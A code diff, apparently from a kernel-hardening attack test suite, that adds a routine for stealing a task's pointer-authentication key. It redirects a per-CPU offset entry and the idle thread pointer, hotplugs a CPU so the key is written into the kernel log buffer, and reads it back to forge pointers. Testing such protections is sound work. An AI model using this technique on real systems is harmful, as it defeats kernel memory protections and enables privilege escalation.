@@ -12,6 +12,7 @@
 
 #include "attack.h"
 #include "list.h"
+#include "objects.h"
 #include "pauth.h"
 
 #define ENABLED_IA	(1UL << 31)
@@ -138,6 +139,59 @@ enum outcome pauth_kernel_key(void)
 		return broken("where the kernel's key is is not known, or it is the user's");
 	err = kload("plain", task.kernel_key, key, sizeof(key));
 	outcome = err ? lost("reading the key: %s", strerror(-err)) : foretell_with(key, &task);
+	end_sleeper(&sleeper);
+	return outcome;
+}
+
+/* Ordinary memory behind the list of per-CPU areas: the buffer of the kernel's messages. */
+#define BUFFER		"__log_buf"
+#define FROM_END	4096
+
+/*
+ * A CPU that starts with the victim's task, whose number is behind the end of the
+ * list: there is the place from which to the key's is as far as to the CPU's own.
+ */
+static int have_key_stored(const struct task *victim, uint64_t at)
+{
+	uint64_t areas = ksymbol("__per_cpu_offset"), entry = at + 64;
+	uint64_t idle = ksymbol("idle_threads") + kread64(areas + sizeof(uint64_t));
+	uint64_t genuine = kread64(idle);
+	unsigned int number = (entry - areas) / sizeof(uint64_t);
+	int err;
+
+	hotplug_cpu(false);
+	err = kwrite64(entry, at - ksymbol("kpkeys_pauth_key")) ?:
+	      kwrite(victim->cpu_word, &number, sizeof(number)) ?:
+	      kwrite64(idle, victim->task);
+	if (!err)
+		hotplug_cpu(true);
+	number = 0;
+	kwrite(victim->cpu_word, &number, sizeof(number));
+	kwrite64(idle, genuine);
+	return err;
+}
+
+enum outcome pauth_key_start(void)
+{
+	uint64_t at = (ksymbol(BUFFER) + FROM_END) & ~7UL, key[2] = { };
+	enum outcome outcome;
+	struct sleeper sleeper;
+	struct task task;
+
+	if (!pauth_present() || sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("no pointer authentication, or no second CPU");
+	stay_on_cpu(0);
+	if (!start_sleeper(&sleeper))
+		return broken("no process to rob");
+	*sleeper.go = 1;
+	usleep(ASLEEP_US);
+	if (ktask(sleeper.pid, &task) || count_foretold(&task) >= FORETOLD)
+		return broken("the kernel's key is the user's");
+	if (!is_protected())
+		kload("plain", task.kernel_key, key, sizeof(key));
+	else if (kwrite(at, key, sizeof(key)) || have_key_stored(&task, at) || kread(at, key, sizeof(key)))
+		return lost("where a CPU starts was not to be changed");
+	outcome = key[0] ? foretell_with(key, &task) : lost("the CPU that started stored no key");
 	end_sleeper(&sleeper);
 	return outcome;
 }
